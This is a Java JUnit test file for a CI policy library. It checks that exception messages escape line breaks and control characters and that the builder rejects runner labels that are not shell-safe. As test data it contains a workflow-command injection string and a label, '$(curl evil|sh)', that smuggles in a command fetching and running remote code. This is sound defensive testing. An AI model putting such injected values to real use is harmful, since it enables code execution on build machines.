package dev.cipolicy.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cipolicy.api.policy.Suite;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Every message of our exceptions is one line, whatever input text it quotes; runner labels are shell-safe. */
class SingleLineMessagesTest {

  @Test
  void lineBreaksAndControlCharactersInQuotedInputAreWrittenVisibly() {
    CiPolicyException e = new UnknownCadenceException("x\n::set-output name=cadence::release\r\u0000\u2028",
        List.of("nightly"));
    assertThat(e.getMessage()).doesNotContain("\n", "\r", "\u0000", "\u2028")
        .contains("x\\n::set-output name=cadence::release\\r\\u0000\\u2028");
  }

  @Test
  void aProblemListStaysOneLine() {
    InvalidValueException e = new InvalidValueException("Suite", List.of(
        new InvalidValueException.Problem("name", "bad\nname"), new InvalidValueException.Problem("shards", "x")));
    assertThat(e.getMessage()).isEqualTo("Suite.name: bad\\nname; Suite.shards: x");
    assertThat(e.problems().get(0).message()).isEqualTo("bad\nname");
  }

  @Test
  void textWithoutControlCharactersIsUnchanged() {
    String text = "Unknown CI cadence 'b\u00e9\tx'; expected one of [nightly]";
    assertThat(new InvalidInputException(text).getMessage()).isEqualTo(text);
  }

  @Test
  void aRunnerLabelOutsideTheGrammarIsRejectedByTheBuilder() {
    assertThatThrownBy(() -> Suite.builder().name("stage-c-4-gpu-h200").addRunnerLabels("h200", "$(curl evil|sh)")
        .build()).isInstanceOf(InvalidValueException.class)
        .hasMessage("Suite.runnerLabels[1]: runner label '$(curl evil|sh)' is not shell-safe; expected 1 to 64"
            + " characters matching " + Suite.RUNNER_LABEL_GRAMMAR);
    assertThat(Suite.builder().name("s").addRunnerLabels("self-hosted", "ubuntu-22.04", "gpu_8", "a".repeat(64))
        .build().runnerLabels()).hasSize(4);
    assertThatThrownBy(() -> Suite.builder().name("s").addRunnerLabels("a".repeat(65)).build())
        .isInstanceOf(InvalidValueException.class);
  }
}
